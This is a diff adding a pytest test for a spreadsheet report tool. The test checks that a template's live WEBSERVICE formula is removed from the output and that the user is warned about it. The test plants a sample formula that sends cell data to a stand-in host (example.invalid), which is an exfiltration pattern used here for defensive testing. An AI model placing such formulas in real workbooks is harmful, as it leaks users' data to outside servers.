@@ -944,3 +944,25 @@ def test_run_keep_going_closing_line_counts_the_skipped_files(
         "1 scenario appraised; 1 invalid file skipped; 2 files written "
         f"(1 workbook, 1 JSON results) in {tmp_path / 'results'}"
     )
+
+
+def test_run_says_what_was_dropped_from_a_template(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A partner template's live formula (here one that would send results to a server) is
+    dropped, the user is told, and the output has no such formula."""
+    import zipfile
+
+    import openpyxl
+
+    template = tmp_path / "branded.xlsx"
+    book = openpyxl.load_workbook(ROOT / "templates" / "xlsx" / "default.xlsx")
+    book["Cover"]["H40"] = '=WEBSERVICE("http://example.invalid/?"&A1)'
+    book.save(template)
+    scenario = SCENARIO_DIR / "balsall_heath_community_safety.yaml"
+    out = tmp_path / "out"
+    assert main(["run", str(scenario), "--template", str(template), "-o", str(out), "-q"]) == 0
+    err = capsys.readouterr().err
+    assert "Cover!H40" in err and "WEBSERVICE is not allowed" in err
+    with zipfile.ZipFile(out / "balsall_heath_community_safety.xlsx") as archive:
+        assert not any(b"WEBSERVICE" in archive.read(n) for n in archive.namelist())
